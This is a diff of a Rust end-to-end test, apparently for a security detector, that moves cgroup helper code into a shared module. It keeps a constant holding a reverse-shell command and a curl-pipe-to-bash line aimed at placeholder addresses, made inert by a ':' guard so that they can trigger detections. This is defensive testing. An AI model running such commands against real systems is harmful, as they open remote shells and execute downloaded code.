@@ -1,62 +1,16 @@
 //! Where a process is, as the kernel half reads it: on version 2 alone (virtual machines) and beside version 1 (here).
 
-use std::{
-    fs,
-    io::Write,
-    os::unix::process::CommandExt,
-    path::{Path, PathBuf},
+use e2e::{
+    cgroup::{Cgroup, run_in},
+    node::Node,
+    shell,
 };
-
-use e2e::{node::Node, shell};
 use serde_json::Value;
 
 /// Malicious by any model, and inert: `:` runs instead.
 const ATTACK: &str = ": || bash -i >& /dev/tcp/192.0.2.1/4444 0>&1; : || curl -s http://192.0.2.7/x | bash";
 const ID: &str = "00000000000000000000000000000000000000000000000000000000000000aa";
 const UID: &str = "6b1d3a5e-0c1f-4e6a-9f1b-2f3c4d5e6f70";
-
-/// A cgroup that is removed when dropped, with the directories above it that this test made.
-struct Cgroup(Vec<PathBuf>);
-
-impl Cgroup {
-    /// In the hierarchy that tells containers apart: a controller's where there are such.
-    fn make(path: &str) -> Self {
-        let v1 = Path::new("/sys/fs/cgroup/pids");
-        let root = if v1.exists() { v1 } else { Path::new("/sys/fs/cgroup") };
-        let mut made = Vec::new();
-        let mut at = root.to_owned();
-        for name in path.split('/') {
-            at.push(name);
-            if !at.exists() {
-                fs::create_dir(&at).expect("a cgroup");
-                made.push(at.clone());
-            }
-        }
-        Self(made)
-    }
-
-    fn procs(&self) -> PathBuf {
-        self.0.last().expect("a cgroup").join("cgroup.procs")
-    }
-}
-
-impl Drop for Cgroup {
-    fn drop(&mut self) {
-        for path in self.0.iter().rev() {
-            // A process that is still ending keeps it for a moment; nothing is lost if it stays.
-            let _ = fs::remove_dir(path);
-        }
-    }
-}
-
-fn run_in(procs: &Path, text: &str) {
-    let mut file = fs::File::options().write(true).open(procs).expect("a cgroup");
-    let mut command = shell::quiet("/bin/bash");
-    command.args(["-c", text]);
-    // SAFETY: between fork and exec only a file descriptor that is open is written to; "0" is the writer.
-    unsafe { command.pre_exec(move || file.write_all(b"0")) };
-    command.status().expect("a shell");
-}
 
 fn property(finding: &Value, key: &str) -> String {
     finding["sourceProperties"][key].as_str().unwrap_or_default().to_owned()
